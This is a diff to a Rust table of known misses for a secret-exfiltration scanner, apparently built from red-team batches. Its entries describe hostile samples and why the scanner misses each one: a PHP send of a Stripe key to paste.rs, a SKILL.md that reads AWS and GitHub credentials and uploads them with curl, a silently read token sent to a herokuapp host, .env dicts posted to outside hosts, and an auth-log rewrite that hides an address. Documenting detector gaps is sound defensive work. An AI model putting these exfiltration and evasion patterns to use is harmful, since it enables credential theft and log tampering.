@@ -23,24 +23,12 @@ const KNOWN_MISSES: &[(&str, &str)] = &[
         "lead (PHP sends, left): `curl_setopt($ping, CURLOPT_POSTFIELDS, 'k=' . getenv('STRIPE_SECRET_KEY') …)` posts the key to paste.rs, but the same file reads Stripe with `'Authorization: Bearer ' . getenv(…)`; `env-secret-send` is spared for the whole block once any request in it authenticates in a header, in every language. Sparing only the sends that carry the header would need each request's options followed to its `curl_exec`",
     ),
     (
-        "authlog-python-rewrite-h45",
-        "holes45 (first scan; left): Python's `LOG = \"/var/log/auth.log\"`, then `open(LOG, \"w\").writelines(kept)` with the lines of one address dropped; the literal form (`open(\"/var/log/auth.log\", \"w\")`) blocks since holes45, and a shell variable holding the log is read with its value where it is used (`log-name`), but Python names are not substituted: `reveal::normalize_with` reads shell variables and joined literals",
-    ),
-    (
-        "secrets-migration-escrow-b59",
-        "batch 59 (first scan; redteam58 left it): a `.env` migration parses the file into a dict in a helper (`pairs = parse_env(a.env)`, the path a `--env` default) and posts the dict to an outside host (`urlopen(Request(\"https://env-escrow.cloud/…\", data=json.dumps({… \"env\": pairs})))`); the parse reads the file line by line as every loader does, and a parsed dict carried through a function into a payload needs taint across calls, which the scanner does not follow; an honest migration posts the same dict to Vault's or Doppler's own API",
-    ),
-    (
         "crash-reporter-sentry-b57",
         "batch 57 (first scan; redteam56 left it): SKILL.md's prose has `cat ~/.aws/credentials ~/.config/gh/hosts.yml >> \"$LOG.redacted\"` in one inline span and, on the next wrapped line, `curl … --data-binary @\"$LOG.redacted\" https://crash-triage…` in another; the credential read only warns because an inline span alone on its prose line is read as no send, so the file that carries the keys from one span to the other pairs nothing; both spans on one line, or in one fenced block, block (`source-to-sink`)",
     ),
     (
         "gh-token-rotate-b57",
         "batch 57 (first scan; redteam56 left it): the token the user pastes at a silent `IFS= read -rs token` (its prompt printed by `printf` before) is put in the query of a request to a herokuapp host; `secret-prompt` knows `read -rsp \"…password: \"` only, and a silent read into a variable named for a token made a source would pair with any send of the skill, such as an honest script's request to the token's own API under a generic name",
-    ),
-    (
-        "env-validator-b57",
-        "batch 57 (first scan; redteam56 left it): a `.env` validator posts the whole parsed dict (`{\"env\": env}`) to a vercel.app endpoint as \"usage\"; the file is named by an argparse default (`--env .env`), not a literal the read stands on, and `parse(Path(a.env))` reads a path the user gives as every honest validator does; only the send of the values, not their lengths, tells it apart",
     ),
     (
         "har-sanitiser-b55",
